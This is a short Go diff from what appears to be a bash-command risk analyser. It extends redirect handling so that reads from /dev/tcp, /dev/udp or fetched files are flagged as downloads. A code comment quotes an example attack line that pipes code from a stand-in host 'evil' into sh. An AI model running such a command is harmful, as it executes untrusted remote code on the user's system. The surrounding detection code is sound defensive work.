@@ -174,8 +174,9 @@ func (s *state) redirect(r *syntax.Redirect) ([]finding, *stdinSrc, info) {
 		}
 		for _, x := range ws {
 			// bash reads /dev/tcp/HOST/PORT from the network: what the
-			// command reads is downloaded (sh < /dev/tcp/evil/80).
-			if p := path.Clean(x.s); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") {
+			// command reads is downloaded (sh < /dev/tcp/evil/80), as
+			// is a downloaded or cloned file ($(< r/env)).
+			if p := path.Clean(x.s); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") || s.readsFetched(x) {
 				inf.download = true
 			}
 			if l, reason, ok := s.pathRule(x, true); ok && l > Safe {
